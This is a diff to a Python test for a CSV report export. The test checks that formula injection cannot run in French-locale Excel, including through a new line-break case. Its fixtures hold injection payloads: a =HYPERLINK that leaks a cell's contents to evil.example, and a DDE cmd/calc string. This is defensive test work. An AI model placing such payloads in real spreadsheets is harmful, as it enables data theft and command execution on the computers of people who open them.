@@ -1,5 +1,5 @@
 """A CSV export opened with a double click in French (or Spanish, Portuguese...) Excel runs no
-formula.
+formula, after a ";" or a line break in a note.
 
 Where the list separator is ";", Excel opens a .csv file by splitting every line at each ";",
 whatever the commas and quotes say. A note typed as "Réunion;=HYPERLINK(...)" was written as
@@ -24,6 +24,9 @@ TEXTS = (
     {"notes": 'Réunion avec le juge;=HYPERLINK("http://evil.example/?"&A1,"Détails")'},
     {"notes": "Atelier, suivi;@SUM(1+1)*cmd|' /C calc'!A0", "partner": "UNICEF;+1+1"},
     {"place": "Jacmel;Cayes;－2+3", "partner": "Plan;-5"},  # "-5,,R-G31FBG,..." to Excel
+    # A line break inside the quoted note ends the row there (the quote, in the middle of a
+    # ";" cell, is no quote to Excel): the next line starts a row's first cell.
+    {"notes": 'Compte rendu :\n=HYPERLINK("http://evil.example/","Ouvrir")\r\n+1+1 participants'},
 )
 
 
@@ -49,10 +52,11 @@ async def test_no_cell_after_a_semicolon_runs_and_the_export_imports_back_unchan
         await _store(session)
     path = tmp_path / "rapports.csv"
     async with session_factory() as session:
-        assert await export_reports(session, path, date_from=None, date_to=None) == 3
+        assert await export_reports(session, path, date_from=None, date_to=None) == 4
 
     assert [cell for cell in _as_french_excel_splits(path) if _runs(cell)] == []
     async with session_factory() as session:
         author = await ensure_user(session, 5550001, "Officier", "fr")
         again = await import_reports(session, path, author_user_id=author.id, now=NOW)
-    assert again == ImportResult(created=0, unchanged=3, errors=[])  # the same text came back
+    assert again.errors == []
+    assert again == ImportResult(created=0, unchanged=4, errors=[])  # the same text came back
